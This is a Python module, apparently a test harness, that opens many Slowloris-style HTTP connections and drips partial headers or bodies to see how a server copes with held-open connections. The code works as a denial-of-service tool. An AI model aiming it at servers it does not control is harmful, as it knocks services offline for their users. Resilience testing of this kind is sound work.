"""Slow-loris: clients that hold their connections open by sending next to nothing.

Source: RSnake, "Slowloris HTTP DoS" (2009). Half of the clients never end their headers, the others never their body.
"""

import asyncio
import time
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

EVERY_S: Final = 5.0
"""Seconds from byte to byte."""

_HEADERS: Final = b"POST /predict HTTP/1.1\r\nHost: bench\r\nX-Slow: "
_BODY: Final = (
    b"POST /predict HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
)
_BEGINNINGS: Final = {"headers": _HEADERS, "body": _BODY}


@dataclass(frozen=True, slots=True)
class Held:
    """What became of one slow connection.

    Attributes:
        part: What it was slow with: headers or body.
        open_s: Seconds from its connection to its end.
        closed: Whether the server has ended it; else it was still open at the end.
        answer: What the server said first.
    """

    part: str
    open_s: float
    closed: bool
    answer: bytes = b""


async def hold(
    address: tuple[str, int], connections: int, patience_s: float, *, every_s: float = EVERY_S, ramp_s: float = 0.0
) -> list[Held]:
    """What became of each of many slow connections.

    Args:
        address: Of the server.
        connections: How many, half of them slow with headers, half with a body.
        patience_s: Seconds after which a connection that is still open is given up.
        every_s: Seconds from byte to byte.
        ramp_s: Seconds over which they come.
    """

    async def one(number: int) -> Held:
        await asyncio.sleep(ramp_s * number / connections)
        return await _hold_one(address, "headers" if number % 2 else "body", patience_s, every_s)

    return list(await asyncio.gather(*map(one, range(connections))))


async def _hold_one(address: tuple[str, int], part: str, patience_s: float, every_s: float) -> Held:
    try:
        reader, writer = await asyncio.open_connection(*address)
    except OSError:
        return Held(part, 0.0, closed=True, answer=b"refused")
    began = time.monotonic()
    dripping = asyncio.create_task(_drip(writer, _BEGINNINGS[part], every_s))
    answer = bytearray()
    closed = False
    try:
        with suppress(ConnectionError):
            async with asyncio.timeout(patience_s):
                while piece := await reader.read(4096):
                    answer += piece
        closed = True
    except TimeoutError:
        pass
    finally:
        took_s = time.monotonic() - began
        dripping.cancel()
        with suppress(asyncio.CancelledError, ConnectionError):
            await dripping
        writer.close()
    return Held(part, took_s, closed, bytes(answer[:200]))


async def _drip(writer: asyncio.StreamWriter, beginning: bytes, every_s: float) -> None:
    writer.write(beginning)
    while True:
        await writer.drain()
        await asyncio.sleep(every_s)
        writer.write(b"x")
